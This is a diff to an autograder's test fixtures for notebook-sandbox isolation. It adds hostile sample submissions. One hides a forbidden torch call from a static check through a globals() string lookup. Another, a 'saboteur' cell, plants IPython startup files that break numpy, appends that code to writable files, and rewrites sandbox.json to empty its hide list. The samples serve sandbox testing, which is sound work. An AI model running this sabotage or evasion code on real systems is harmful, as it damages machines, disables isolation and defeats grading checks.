@@ -33,6 +33,12 @@ TORCH_FORWARD = """def rnn_forward(X, h0, W_xh, W_hh, b_h):
 """
 
 
+THROUGH_THE_HELPER = "def rnn_forward(X, h0, W_xh, W_hh, b_h):\n    return torch_rnn_states(X, h0, W_xh, W_hh, b_h)\n"
+# the same, out of the static check's sight: only running the part with torch switched off stops it
+THROUGH_THE_HIDDEN_HELPER = """def rnn_forward(X, h0, W_xh, W_hh, b_h):
+    return globals()["torch_" + "rnn_states"](X, h0, W_xh, W_hh, b_h)
+"""
+
 MEMORY_HOG = """def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):
     scratch = np.ones(2**30)
     return np.tanh(x_t @ W_xh.T + h_prev @ W_hh.T + b_h + 0 * scratch[0])
@@ -74,6 +80,60 @@ def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):
             raw=True)
     return np.zeros((x_t.shape[0], W_hh.shape[0]))
 """
+
+
+# Appended to a correct cell: everything its kernel can write, it rewrites (sandbox settings included), and it
+# plants IPython startup files that break numpy for any later kernel that would run them.
+SABOTEUR = r'''
+import json as _json, os as _os, time as _time
+_planted = "PLANTED = True\nimport numpy\nnumpy.tanh = lambda x: 0 * x\n"
+_written = []
+# A test must never vandalise the machine it runs on: outside the sandbox (not user nobody) it does nothing.
+_inside = _os.getuid() == 65534
+_homes = (_os.path.expanduser("~/.ipython/profile_default/startup"), _os.path.expanduser("~/.ipython/startup"))
+for _dir in _homes if _inside else ():
+    try:
+        _os.makedirs(_dir, exist_ok=True)
+        with open(_os.path.join(_dir, "00-planted.py"), "w") as _f:
+            _f.write(_planted)
+        _written.append(_dir)
+    except OSError:
+        pass
+_stop = _time.monotonic() + 10
+_tops = [_os.path.expanduser("~"), _os.getcwd(), "/tmp", "/dev/shm", "/"] if _inside else []  # likely places first
+_walk = (_step for _top in _tops for _step in _os.walk(_top))
+for _top, _subdirs, _files in _walk:
+    _subdirs[:] = [d for d in _subdirs if _os.path.join(_top, d) not in ("/proc", "/sys", "/dev")]
+    if _time.monotonic() > _stop:
+        break
+    if _os.access(_top, _os.W_OK):
+        for _name in ("sandbox.json", "00-planted.py"):
+            try:
+                with open(_os.path.join(_top, _name), "w") as _f:
+                    _f.write(_json.dumps({"hide": [], "writable": [], "home": _top}) if _name.endswith("json")
+                             else _planted)
+            except OSError:
+                pass
+    for _name in _files:
+        _path = _os.path.join(_top, _name)
+        if _os.path.isfile(_path) and not _os.path.islink(_path) and _os.access(_path, _os.W_OK):
+            try:
+                if _name.endswith(".json"):
+                    _config = _json.loads(open(_path).read())
+                    if isinstance(_config, dict) and "hide" in _config:
+                        _config["hide"] = []  # the next kernel: no sandbox
+                        with open(_path, "w") as _f:
+                            _f.write(_json.dumps(_config))
+                        _written.append(_path)
+                        continue
+                if not _name.endswith(".ipynb"):
+                    with open(_path, "a") as _f:
+                        _f.write("\n" + _planted)
+                    _written.append(_path)
+            except (OSError, ValueError, UnicodeDecodeError):
+                pass
+print("SABOTAGED", len(_written) if _inside else "nothing: not in the sandbox")
+'''
 
 
 def snoop_code(targets):
@@ -162,6 +222,8 @@ def hostile_and_broken(class_root=Path("/nonexistent")):
         "patched_checker": (A, f"{A}.ipynb", with_cell_code(
             "cross_entropy", "\ncheck_close = lambda what, *args, **kwargs: print(f'ok: {what}')\n")),
         "torch_in_numpy_part": (A, f"{A}.ipynb", filled(A, {"rnn_forward": TORCH_FORWARD})),
+        "torch_helper_in_numpy_part": (A, f"{A}.ipynb", filled(A, {"rnn_forward": THROUGH_THE_HELPER})),
+        "hidden_torch_helper_in_numpy_part": (A, f"{A}.ipynb", filled(A, {"rnn_forward": THROUGH_THE_HIDDEN_HELPER})),
         # 8 GiB of ones: fine for this machine without a cap, a MemoryError under the kernel's 4 GiB cap
         "memory_hog": (A, f"{A}.ipynb", filled(A, {"rnn_step": MEMORY_HOG})),
         # cheats the static check misses: the sandbox and the out-of-kernel verdict must stop them
@@ -170,6 +232,8 @@ def hostile_and_broken(class_root=Path("/nonexistent")):
         "lying_result": (A, f"{A}.ipynb", filled(A, {"cross_entropy": LYING_RESULT})),
         "forged_report": (A, f"{A}.ipynb", filled(A, {"rnn_step": FORGED_REPORT})),
         "snoop": (A, f"{A}.ipynb", with_cell_code("rnn_step", snoop_code(snoop_targets(class_root)))),
+        # rewrites what it can reach for the kernels after it (tests/test_sandbox_isolation.py orders them)
+        "saboteur": (A, f"{A}.ipynb", with_cell_code("rnn_step", SABOTEUR)),
     }
 
 
